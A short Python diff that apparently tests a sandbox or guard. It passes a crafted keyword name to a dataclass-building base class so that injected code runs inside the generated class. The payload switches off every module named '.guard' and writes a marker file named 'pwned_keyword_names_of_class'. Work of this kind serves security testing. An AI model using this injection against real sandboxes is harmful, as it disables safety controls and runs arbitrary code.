@@ -2,14 +2,16 @@
 
 import dataclasses
 
+NAME = "x=[m._State.update(on=False)for n,m in[*__import__('sys').modules.items()]if n[-6:]=='.guard'],z=open('pwned_keyword_names_of_class','w'),*y"
+
 
 class Base:
     def __init_subclass__(cls, **words):
-        cls.__annotations__ = dict.fromkeys(words, int)
         for word in words:
+            cls.__annotations__[word] = int
             setattr(cls, word, dataclasses.field(init=False))
         dataclasses.dataclass(cls, repr=False, eq=False)
 
 
-class Made(Base, **{"x=__import__('os').mkdir('pwned_keyword_names_of_class'),*y": 1}):
-    pass
+class Made(Base, **{NAME: 1}):
+    a: int = 3
